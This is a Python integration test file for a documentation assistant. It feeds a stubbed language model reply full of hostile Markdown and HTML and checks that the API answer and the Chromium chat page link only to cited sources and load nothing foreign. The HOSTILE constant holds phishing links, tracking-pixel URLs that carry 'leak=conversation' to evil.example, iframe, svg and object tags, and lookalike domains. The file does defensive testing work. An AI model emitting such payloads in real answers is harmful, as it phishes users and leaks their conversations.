"""What a language model writes reaches the reader only checked: an endpoint speaking the real
OpenAI protocol answers with phishing links, tracking images and raw HTML, and neither the API
JSON nor the chat page in Chromium links anywhere but the cited sources, shows an image or a
foreign element, or makes the browser contact the model's hosts."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from playwright.sync_api import expect

from tests.assistant.llm_stub import Reply, StubLLMServer
from tests.reliability.conftest import TEMPLATE, Server, write_config

pytestmark = [pytest.mark.integration, pytest.mark.slow]

QUESTION = "How do I set up the coffee machine?"
DOCS = TEMPLATE.split("{", 1)[0]
EVIL = "evil.example"
#: The issue's reply, then the other ways Markdown and HTML can link, load or embed.
HOSTILE = (
    "Fill the tank and switch the machine on [1]. "
    "[Click here to verify your account](https://evil.example/phish) "
    "![tracker](https://evil.example/pixel.png?leak=conversation) "
    '<a href="https://evil.example/a">x</a>\n\n'
    "Also read [the form][form] and [the notes] or <https://evil.example/autolink> or "
    "https://evil.example/track?utm_source=chat&leak=conversation or www.evil.example/w.\n\n"
    "[![badge](https://evil.example/badge.svg)](https://evil.example/l) "
    '<img src="https://evil.example/i.png"> '
    '<iframe src="https://evil.example/frame"></iframe> '
    '<svg><image href="https://evil.example/svg.png"/></svg> '
    '<object data="https://evil.example/o"></object> '
    '<a href="https://docs.example.com.evil.example/x">lookalike</a> '
    "[docs lookalike](https://docs.example.com.evil.example/en/guide/setup)\n\n"
    "[form]: https://evil.example/ref\n"
    "[the notes]: https://evil.example/notes"
)
#: Elements an answer must never contain.
FOREIGN = "img, image, iframe, object, embed, svg image, video, audio, source, form, script"


@pytest.fixture
def llm() -> Iterator[StubLLMServer]:
    with StubLLMServer([Reply(HOSTILE) for _ in range(6)]) as stub:
        yield stub


@pytest.fixture
def server(tmp_path: Path, serve: Callable[..., Server], llm: StubLLMServer) -> Server:
    return serve(
        write_config(tmp_path),
        ASSISTANT_LLM_BASE_URL=llm.url,
        ASSISTANT_LLM_MODEL="stub",
    )


def test_the_api_answer_links_only_its_cited_sources(server: Server, llm: StubLLMServer) -> None:
    body = httpx.post(f"{server.url}/api/ask", json={"question": QUESTION}, timeout=30).json()
    assert llm.requests, "the answer was written by the model"
    answer = body["answer"]
    assert body["citations"], body
    assert answer.startswith("Fill the tank and switch the machine on [1]."), answer
    assert "Click here to verify your account" in answer, "the text stays, the link goes"
    assert EVIL not in answer
    assert not re.search(r"<\s*[a-z!/]", answer, re.I), answer
    assert "](" not in answer
    assert not re.search(r"(?<!\\)\[(?!\d+\])", answer), "no bracket that could open a link"


@pytest.mark.parametrize("path", ["/?lang=en", "/widget/?lang=en"], ids=["page", "widget"])
def test_the_chat_shows_no_foreign_link_image_or_element(
    server: Server, browser: Any, path: str
) -> None:
    context = browser.new_context(locale="en-US")
    attempted: list[str] = []
    violations: list[str] = []
    try:
        # Every request to the model's hosts is recorded and refused, never resolved.
        context.route(
            re.compile(r"^[a-z]+://([^/]*\.)?evil\.example"),
            lambda route: (attempted.append(route.request.url), route.abort()),
        )
        page = context.new_page()
        page.set_default_timeout(30_000)
        page.on("request", lambda r: attempted.append(r.url) if EVIL in r.url else None)
        page.on("console", lambda m: violations.append(m.text) if EVIL in m.text else None)
        page.goto(f"{server.url}{path}")
        page.locator("#question textarea").fill(QUESTION)
        page.locator("#question textarea").press("Enter")
        bot = page.locator("#chat [data-testid='bot']").last
        expect(bot).to_contain_text("Click here to verify your account")
        expect(bot).to_contain_text("Sources")
        page.wait_for_timeout(500)  # give a smuggled image time to load

        assert bot.locator(FOREIGN).count() == 0
        hrefs = bot.locator("a[href]").evaluate_all("links => links.map(a => a.href)")
        assert hrefs, "the answer links its sources"
        assert all(href.startswith(DOCS) for href in hrefs), hrefs
        assert EVIL not in bot.inner_html()
        assert attempted == []
        assert violations == []
    finally:
        context.close()
